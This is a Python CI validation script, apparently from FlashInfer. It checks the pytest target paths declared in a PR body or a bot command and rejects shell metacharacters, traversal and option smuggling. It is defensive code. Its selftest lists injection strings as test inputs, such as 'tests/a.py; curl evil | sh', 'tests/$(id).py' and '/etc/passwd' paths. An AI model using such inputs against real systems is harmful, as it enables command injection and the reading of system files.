#!/usr/bin/env python3
"""Validate a declared or requested pytest scope for the experimental CI lane.

Standard library only: CI runs this from the base branch before anything of the pull
request is trusted. One definition of a safe target, two entry points that differ only in
their root:

- ``--body-file FILE``: the fenced ``experimental-tests`` block of a PR body; root
  ``tests/experimental/``.
- ``--targets "a b c"``: the arguments of a reviewer's ``@flashinfer-bot run <paths>``;
  root ``tests/``.

Output modes: ``--test-path`` (space-separated targets), ``--chunks`` (one status
description per line, at most 140 characters, split only between targets) and
``--check-exists ROOT_DIR`` (a target that does not exist collects nothing and passes, so
it is an error). ``--selftest`` runs built-in cases without pytest.

``--changed-files FILE`` (with ``--body-file``; the pull request workflow passes ``git diff
--name-only``): the block is required, and checked, only when a changed path is under
``flashinfer/experimental/`` or ``tests/experimental/``; otherwise the script says so and
exits 0.

Exit codes: 0 valid, 2 invalid input, 1 internal error.
"""

from __future__ import annotations

import argparse
import os
import re
import sys
import tempfile
import traceback
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path

EXIT_OK = 0
EXIT_INTERNAL = 1
EXIT_INVALID = 2

BODY_ROOT = "tests/experimental/"
TARGETS_ROOT = "tests/"
#: GitHub's limit on a commit status description.
STATUS_DESCRIPTION_LIMIT = 140
BLOCK_INFO = "experimental-tests"
TEMPLATE_HINT = ".github/pull_request_template.md"
#: A pull request that changes a path under one of these must declare its experimental tests.
EXPERIMENTAL_PATHS = ("flashinfer/experimental/", "tests/experimental/")

_PATH_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-./")
# Every regular expression here reads untrusted text, so each must run in linear time however
# it is called (tests/pr_checks/test_regex_linear_time.py lists and attacks each one).
_TEST_NAME_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")  # used with fullmatch
# Characters with a meaning to a shell or to pytest, named so a rejection says which rule.
_SHELL_METACHARS = frozenset(";&|<>(){}!~^#\\$")
_GLOB_CHARS = frozenset("*?[]")
_QUOTES = frozenset("'\"")
# Split arguments on ASCII whitespace only: any other space-like character stays inside the
# token and is rejected there, loudly, instead of silently separating two targets.
_ASCII_WS_RE = re.compile(r"[ \t\r\n\f\v]+")


class ScopeError(ValueError):
    """Invalid input. ``errors`` holds one message per problem found."""

    def __init__(self, errors: Sequence[str]) -> None:
        self.errors = list(errors)
        super().__init__("\n".join(self.errors))


# --------------------------------------------------------------------------------------------
# One target


def _describe_char(ch: str) -> str:
    if ch.isprintable() and not ch.isspace():
        return f"{ch!r} (U+{ord(ch):04X})"
    return f"U+{ord(ch):04X}"


def target_problems(target: str, root: str) -> list[str]:
    """Return the rules ``target`` breaks (empty when it is a safe target under ``root``).

    A target is a path under ``root`` made of ASCII letters, digits, ``_``, ``-``, ``.`` and
    ``/``, optionally followed by ``::name`` parts (a pytest node id) after a ``.py`` file.
    """
    if not root.endswith("/"):
        root += "/"
    problems: list[str] = []
    if target == "":
        return ["empty target"]
    if target.startswith("-"):
        problems.append("starts with '-' (pytest options cannot be smuggled in as targets)")
    if "`" in target:
        problems.append("contains a backtick (write paths bare, without Markdown code spans)")
    if "$(" in target:
        problems.append("contains command substitution '$('")
    quotes = sorted({c for c in target if c in _QUOTES})
    if quotes:
        problems.append(f"contains a quote {' '.join(repr(q) for q in quotes)}")
    globs = sorted({c for c in target if c in _GLOB_CHARS})
    if globs:
        problems.append(f"contains a glob character {' '.join(repr(g) for g in globs)}")
    spaces = sorted({c for c in target if c.isspace()})
    if spaces:
        problems.append(
            "contains whitespace inside the target ("
            + ", ".join(_describe_char(c) for c in spaces)
            + ")"
        )
    metas = sorted({c for c in target if c in _SHELL_METACHARS})
    if metas:
        problems.append("contains a shell metacharacter " + " ".join(repr(c) for c in metas))
    named = _QUOTES | _GLOB_CHARS | _SHELL_METACHARS | {"`", ":"}
    others = sorted(
        {c for c in target if c not in _PATH_CHARS and c not in named and not c.isspace()}
    )
    if others:
        problems.append(
            "contains a character outside [A-Za-z0-9_./-] ("
            + ", ".join(_describe_char(c) for c in others)
            + ")"
        )

    path, sep, node = target.partition("::")
    if ":" in path:
        problems.append("contains ':' outside a '::' test name")
    if sep:
        if not path.endswith(".py"):
            problems.append("'::' test names are only allowed after a .py file")
        for part in node.split("::"):
            if not _TEST_NAME_RE.fullmatch(part):
                problems.append(
                    f"test name {part!r} after '::' must be letters, digits and '_' "
                    "(no parametrize ids)"
                )
                break
    if path.startswith("/"):
        problems.append("is an absolute path")
    if ".." in path:
        problems.append("contains '..'")
    components = path.rstrip("/").split("/") if path.rstrip("/") else [""]
    if "" in components and not path.startswith("/"):
        problems.append("contains an empty path component ('//')")
    if "." in components:
        problems.append("contains a '.' path component")
    if not (path == root.rstrip("/") or path.startswith(root)):
        problems.append(f"is not under {root}")
    return problems


def validate_targets(targets: Iterable[str], root: str) -> list[str]:
    """Validate every target; return them de-duplicated in order, or raise ScopeError.

    Every rejected target is reported, each with the rules it breaks.
    """
    errors: list[str] = []
    seen: set[str] = set()
    result: list[str] = []
    for target in targets:
        problems = target_problems(target, root)
        if problems:
            errors.append(f"target {target!r}: " + "; ".join(problems))
            continue
        key = target.rstrip("/") or target
        if key in seen:
            continue
        seen.add(key)
        result.append(target)
    if errors:
        raise ScopeError(errors)
    if not result:
        raise ScopeError([f"no targets given (expected paths under {root})"])
    return result


def split_targets(text: str) -> list[str]:
    """Split an argument string on ASCII whitespace."""
    return [t for t in _ASCII_WS_RE.split(text) if t]


def parse_targets(text: str, root: str = TARGETS_ROOT) -> list[str]:
    """The ``--targets`` entry point: split, validate, de-duplicate."""
    return validate_targets(split_targets(text), root)


# --------------------------------------------------------------------------------------------
# The PR body


def fence_run(line: str) -> tuple[str, str] | None:
    """Split a Markdown fence line (one line, no newline) into its marker and what follows.

    ``(marker, rest)`` when ``line`` is at most three spaces, then a run of three or more
    backticks or tildes (``marker`` is the whole run); None when it is not a fence line.
    String operations, not a regular expression: linear in the line's length whatever it
    holds (a fence regex that backtracked took a minute on a 3 kB line). Shared with
    bot_command.py, which applies its own rules to ``rest``.
    """
    text = line.lstrip(" ")
    if len(line) - len(text) > 3 or text[:1] not in ("`", "~"):
        return None
    run = len(text) - len(text.lstrip(text[0]))
    if run < 3:
        return None
    return text[:run], text[run:]


def _fence_and_info(line: str) -> tuple[str, str] | None:
    """``(marker, info string)`` of a fence line, the info stripped of spaces and tabs.

    A line with a backtick after its marker is not a fence here, whichever the marker (a
    backtick fence's info string cannot hold one; this check is stricter for tildes).
    """
    found = fence_run(line)
    if found is None or "`" in found[1]:
        return None
    marker, rest = found
    return marker, rest.strip(" \t")


def find_blocks(body: str, info: str = BLOCK_INFO) -> list[tuple[int, list[str] | None]]:
    """Find fenced code blocks whose info string is ``info``.

    Returns ``(line_number, lines)`` per block; ``lines`` is None for a block never closed.
    Fences inside other fenced blocks, blockquotes and HTML comments are not blocks.
    """
    lines = body.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    found: list[tuple[int, list[str] | None]] = []
    fence: str | None = None  # the open fence's marker when inside a fenced block
    current: list[str] | None = None
    start = 0
    in_comment = False
    for number, line in enumerate(lines, start=1):
        if fence is not None:
            closing = _fence_and_info(line)
            if (
                closing is not None
                and closing[0][0] == fence[0]
                and len(closing[0]) >= len(fence)
                and closing[1] == ""
            ):
                if current is not None:
                    found.append((start, current))
                fence, current = None, None
            elif current is not None:
                current.append(line)
            continue
        if in_comment:
            if "-->" in line:
                in_comment = False
            continue
        stripped = line.lstrip(" ")
        if stripped.startswith("<!--"):
            if "-->" not in stripped[4:]:
                in_comment = True
            continue
        opening = _fence_and_info(line)
        if opening is not None:
            fence = opening[0]
            words = opening[1].split()
            if words and words[0] == info:
                current, start = [], number
    if fence is not None and current is not None:
        found.append((start, None))
    return found


def strip_comments(lines: Iterable[str]) -> list[str]:
    """Drop ``#`` comments (whole-line or trailing) and blank lines; strip the rest."""
    kept = []
    for line in lines:
        text = line.split("#", 1)[0].strip()
        if text:
            kept.append(text)
    return kept


def parse_body(body: str, root: str = BODY_ROOT) -> list[str]:
    """The ``--body-file`` entry point: exactly one block, one target per line."""
    blocks = find_blocks(body)
    how = (
        f"Add exactly one fenced ```{BLOCK_INFO} block to the PR description listing test "
        f"paths under {root}, one per line (see {TEMPLATE_HINT})."
    )
    if not blocks:
        raise ScopeError([f"no ```{BLOCK_INFO} block found in the PR body. {how}"])
    if len(blocks) > 1:
        where = ", ".join(f"line {n}" for n, _ in blocks)
        raise ScopeError(
            [f"{len(blocks)} ```{BLOCK_INFO} blocks found ({where}); keep exactly one. {how}"]
        )
    start, lines = blocks[0]
    if lines is None:
        raise ScopeError(
            [
                f"the ```{BLOCK_INFO} block opened at line {start} is never closed; close it "
                "with ``` on a line of its own."
            ]
        )
    targets = strip_comments(lines)
    if not targets:
        raise ScopeError(
            [
                f"the ```{BLOCK_INFO} block (line {start}) is empty once # comments are removed; "
                f"uncomment an example or list at least one path under {root}, one per line."
            ]
        )
    # One target per line: whitespace inside a line is whitespace inside a target.
    return validate_targets(targets, root)


def experimental_changes(changed: Iterable[str]) -> list[str]:
    """The changed paths (one per item, as ``git diff --name-only`` lists them) that make
    the experimental-tests block required: those under :data:`EXPERIMENTAL_PATHS`."""
    paths = (line.strip() for line in changed)
    return [p for p in paths if p.startswith(EXPERIMENTAL_PATHS)]


# --------------------------------------------------------------------------------------------
# Output


def chunk_targets(targets: Sequence[str], limit: int = STATUS_DESCRIPTION_LIMIT) -> list[str]:
    """Greedily join targets with single spaces into chunks of at most ``limit`` characters.

    Splits only between targets; a single target longer than ``limit`` is an error.
    ``" ".join(chunks).split(" ") == list(targets)`` for any non-empty targets.
    """
    too_long = [t for t in targets if len(t) > limit]
    if too_long:
        raise ScopeError(
            [
                f"target {t!r}: is {len(t)} characters, longer than the {limit}-character "
                "status description limit; name a shorter path"
                for t in too_long
            ]
        )
    chunks: list[str] = []
    current = ""
    for target in targets:
        if not current:
            current = target
        elif len(current) + 1 + len(target) <= limit:
            current += " " + target
        else:
            chunks.append(current)
            current = target
    if current:
        chunks.append(current)
    return chunks


def check_exists(targets: Iterable[str], root_dir: str | os.PathLike[str], root: str) -> None:
    """Raise ScopeError for each target whose path does not exist under ``root_dir``.

    The path must also resolve (following symlinks) inside ``root_dir/root``.
    """
    base = Path(root_dir)
    scope_dir = (base / root).resolve()
    errors = []
    for target in targets:
        path = target.partition("::")[0]
        candidate = base / path
        if not candidate.exists():
            errors.append(
                f"target {target!r}: does not exist under {str(base)!r} (a missing path "
                "collects nothing and would pass)"
            )
            continue
        resolved = candidate.resolve()
        if resolved != scope_dir and scope_dir not in resolved.parents:
            errors.append(f"target {target!r}: resolves outside {root} (symlink)")
    if errors:
        raise ScopeError(errors)


# --------------------------------------------------------------------------------------------
# Selftest


def _expect_ok(func, arg, expected) -> str | None:  # type: ignore[no-untyped-def]
    try:
        got = func(arg)
    except ScopeError as exc:
        return f"{arg!r}: expected {expected!r}, got error {exc}"
    return None if got == expected else f"{arg!r}: expected {expected!r}, got {got!r}"


def _expect_error(func, arg, needle: str) -> str | None:  # type: ignore[no-untyped-def]
    try:
        got = func(arg)
    except ScopeError as exc:
        return None if needle in str(exc) else f"{arg!r}: error {exc!s} lacks {needle!r}"
    return f"{arg!r}: expected an error containing {needle!r}, got {got!r}"


def selftest() -> list[str]:
    """Run built-in cases; return the failures (empty when all pass)."""
    failures: list[str | None] = []
    body = "x\n```experimental-tests\n# example\ntests/experimental/test_a.py  # why\n```\n"
    failures += [
        _expect_ok(parse_body, body, ["tests/experimental/test_a.py"]),
        _expect_ok(
            parse_body,
            "```experimental-tests\ntests/experimental/\ntests/experimental/\n```",
            ["tests/experimental/"],
        ),
        _expect_ok(
            parse_targets,
            "tests/gemm/test_x.py  tests/a.py::TestA::test_b\ttests/gemm/test_x.py",
            ["tests/gemm/test_x.py", "tests/a.py::TestA::test_b"],
        ),
        _expect_error(parse_body, "no block here", "no ```experimental-tests block"),
        _expect_error(parse_body, "```experimental-tests\n# only\n```", "is empty"),
        _expect_error(
            parse_body,
            "```experimental-tests\ntests/experimental/a.py\n```\n"
            "```experimental-tests\ntests/experimental/b.py\n```",
            "2 ```experimental-tests blocks",
        ),
        _expect_error(parse_body, "```experimental-tests\ntests/x.py\n```", "not under"),
        _expect_error(parse_targets, "tests/a.py; curl evil | sh", "shell metacharacter"),
        _expect_error(parse_targets, "tests/../etc/passwd", "contains '..'"),
        _expect_error(parse_targets, "/etc/passwd", "absolute path"),
        _expect_error(parse_targets, "--collect-only", "starts with '-'"),
        _expect_error(parse_targets, "`tests/a.py`", "backtick"),
        _expect_error(parse_targets, "tests/$(id).py", "command substitution"),
        _expect_error(parse_targets, "tests/*.py", "glob"),
        _expect_error(parse_targets, "tests/'a'.py", "quote"),
        _expect_error(parse_targets, "tests/a\u00a0b.py", "whitespace"),
        _expect_error(parse_targets, "tests/é.py", "outside [A-Za-z0-9_./-]"),
        _expect_error(parse_targets, "tests/a::test_b", "only allowed after a .py"),
        _expect_error(parse_targets, "", "no targets"),
        _expect_error(lambda t: chunk_targets([t]), "tests/" + "a" * 140, "longer than"),
    ]
    changed = ["README.md", " tests/experimental/test_a.py", "flashinfer/norm.py"]
    if experimental_changes(changed) != ["tests/experimental/test_a.py"]:
        failures.append(f"experimental_changes({changed!r}) missed the experimental test")
    if experimental_changes(["flashinfer/experimentalish.py", "docs/x.md"]):
        failures.append("experimental_changes matched a path outside the experimental folders")
    long = [f"tests/experimental/feature_{i}/test_{'x' * i}.py" for i in range(12)]
    chunks = chunk_targets(long)
    if (
        any(len(c) > STATUS_DESCRIPTION_LIMIT for c in chunks)
        or " ".join(chunks).split(" ") != long
    ):
        failures.append(f"chunking round trip failed: {chunks!r}")
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "tests" / "experimental").mkdir(parents=True)
        (Path(tmp) / "tests" / "experimental" / "test_a.py").write_text("")
        try:
            check_exists(["tests/experimental/test_a.py::test_x"], tmp, BODY_ROOT)
        except ScopeError as exc:
            failures.append(f"check_exists rejected an existing file: {exc}")
        failures.append(
            _expect_error(
                lambda t: check_exists([t], tmp, BODY_ROOT),
                "tests/experimental/test_missing.py",
                "does not exist",
            )
        )
    return [f for f in failures if f]


# --------------------------------------------------------------------------------------------
# CLI


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0],
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--body-file", help=f"PR body; root {BODY_ROOT}")
    source.add_argument("--targets", help=f"space-separated targets; root {TARGETS_ROOT}")
    source.add_argument("--selftest", action="store_true", help="run built-in cases")
    mode = parser.add_mutually_exclusive_group()
    mode.add_argument("--test-path", action="store_true", help="print targets, space-separated")
    mode.add_argument("--chunks", action="store_true", help="print status description chunks")
    parser.add_argument(
        "--check-exists",
        metavar="ROOT_DIR",
        help="fail on a target that does not exist under ROOT_DIR (the repository root)",
    )
    parser.add_argument(
        "--changed-files",
        metavar="FILE",
        help="with --body-file: the changed paths, one per line; the block is required only "
        f"when one is under {' or '.join(EXPERIMENTAL_PATHS)}",
    )
    return parser


def run(argv: Sequence[str] | None = None) -> int:
    """Parse ``argv`` and act; return the exit code (ScopeError means invalid input)."""
    args = build_parser().parse_args(argv)
    if args.selftest:
        failures = selftest()
        for failure in failures:
            print(f"selftest FAILED: {failure}", file=sys.stderr)
        if failures:
            return EXIT_INTERNAL
        print("selftest: all cases pass")
        return EXIT_OK
    if args.changed_files is not None:
        if args.body_file is None:
            raise ScopeError(["--changed-files goes with --body-file (the PR description)"])
        try:
            changed = Path(args.changed_files).read_text(encoding="utf-8").splitlines()
        except (OSError, UnicodeDecodeError) as exc:
            raise ScopeError(
                [f"cannot read --changed-files {args.changed_files!r}: {exc}"]
            ) from exc
        touched = experimental_changes(changed)
        if not touched:
            print(
                f"no change under {' or '.join(EXPERIMENTAL_PATHS)}: the "
                f"```{BLOCK_INFO} block is not required"
            )
            return EXIT_OK
        shown = ", ".join(touched[:3]) + (
            f" and {len(touched) - 3} more" if len(touched) > 3 else ""
        )
        print(
            f"experimental code changed ({shown}): checking the ```{BLOCK_INFO} block",
            file=sys.stderr,
        )
    if args.body_file is not None:
        root = BODY_ROOT
        try:
            body = Path(args.body_file).read_text(encoding="utf-8")
        except (OSError, UnicodeDecodeError) as exc:
            raise ScopeError([f"cannot read --body-file {args.body_file!r}: {exc}"]) from exc
        targets = parse_body(body, root)
    else:
        root = TARGETS_ROOT
        targets = parse_targets(args.targets, root)
    chunks = chunk_targets(targets) if args.chunks else None
    if args.check_exists is not None:
        check_exists(targets, args.check_exists, root)
    if chunks is not None:
        print("\n".join(chunks))
    else:
        print(" ".join(targets))
    return EXIT_OK


def guarded_main(
    run: Callable[[Sequence[str] | None], int], argv: Sequence[str] | None, script: str
) -> int:
    """``run(argv)``'s exit code, with failures mapped to exit codes (shared by bot_command.py).

    A ScopeError is invalid input (its errors on stderr, exit 2); so is an argparse usage
    error.  Anything else is a bug in ``script``: traceback, exit 1.
    """
    try:
        return run(argv)
    except ScopeError as exc:
        for error in exc.errors:
            print(f"error: {error}", file=sys.stderr)
        return EXIT_INVALID
    except SystemExit as exc:  # argparse: usage errors are invalid input (exit 2)
        return exc.code if isinstance(exc.code, int) else EXIT_INVALID
    except Exception:  # noqa: BLE001 - anything else is a bug in the script
        traceback.print_exc()
        print(f"error: internal error in {script}", file=sys.stderr)
        return EXIT_INTERNAL


def main(argv: Sequence[str] | None = None) -> int:
    return guarded_main(run, argv, "experimental_test_scope.py")


if __name__ == "__main__":
    sys.exit(main())
